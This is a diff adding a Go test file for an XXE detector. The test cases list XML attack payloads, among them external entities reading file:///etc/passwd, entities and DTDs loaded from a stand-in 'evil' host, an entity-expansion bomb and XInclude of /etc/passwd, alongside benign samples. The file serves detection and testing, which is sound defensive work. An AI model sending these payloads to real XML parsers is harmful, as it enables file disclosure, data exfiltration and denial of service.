@@ -0,0 +1,82 @@
+package xxe
+
+import (
+	"encoding/xml"
+	"errors"
+	"io"
+	"strings"
+	"testing"
+)
+
+var documents = []struct {
+	doc  string
+	want string
+}{
+	{`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, "external entity"},
+	{`<!DOCTYPE foo [<!ENTITY xxe PUBLIC "x" "http://evil/x">]><foo/>`, "external entity"},
+	{`<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil/dtd"> %dtd;]><foo/>`, "external entity"},
+	{`<!DOCTYPE foo [<!ENTITY % p "x">]><foo/>`, "parameter entity"},
+	{`<!DOCTYPE foo SYSTEM "http://evil/foo.dtd"><foo/>`, "external dtd"},
+	{`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>`, "entity expansion"},
+
+	{`<foo>bar</foo>`, ""},
+	{`<!DOCTYPE html><html></html>`, ""},
+	{`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`, ""},
+	{`<!DOCTYPE note [<!ENTITY copy "&#169;"><!ENTITY company "Acme &amp; Co">]><note/>`, ""},
+}
+
+func TestDetectDocument(t *testing.T) {
+	for _, tt := range documents {
+		detail, ok := Detect(tt.doc)
+		if ok != (tt.want != "") || !strings.HasPrefix(detail, tt.want) {
+			t.Errorf("Detect(%q) = %q, %v; want %q", tt.doc, detail, ok, tt.want)
+		}
+	}
+}
+
+// разобранное тело отдает DOCTYPE директивой encoding/xml без <! в начале: детектор видит то же, что в сыром документе
+func TestDetectDecodedDirective(t *testing.T) {
+	for _, tt := range documents {
+		dec := xml.NewDecoder(strings.NewReader(tt.doc))
+		dec.Strict = false
+		var directive string
+		for {
+			tok, err := dec.Token()
+			if errors.Is(err, io.EOF) || err != nil {
+				break
+			}
+			if d, ok := tok.(xml.Directive); ok {
+				directive = string(d)
+			}
+		}
+		if directive == "" {
+			continue
+		}
+
+		detail, ok := Detect(directive)
+		if ok != (tt.want != "") || !strings.HasPrefix(detail, tt.want) {
+			t.Errorf("Detect(%q) = %q, %v; want %q", directive, detail, ok, tt.want)
+		}
+	}
+}
+
+func TestDetectXInclude(t *testing.T) {
+	tests := []struct {
+		input string
+		want  bool
+	}{
+		{`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></foo>`, true},
+		{`<xi:include href="file:///etc/passwd" parse="text"/>`, true},
+		// пространство имен приходит значением атрибута /foo/@xmlns:xi разобранного тела
+		{"http://www.w3.org/2001/XInclude", true},
+		{`<include file="header.html"/>`, false},
+		{"entity system public", false},
+		{"a < b", false},
+	}
+
+	for _, tt := range tests {
+		if _, ok := Detect(tt.input); ok != tt.want {
+			t.Errorf("Detect(%q) = %v, want %v", tt.input, ok, tt.want)
+		}
+	}
+}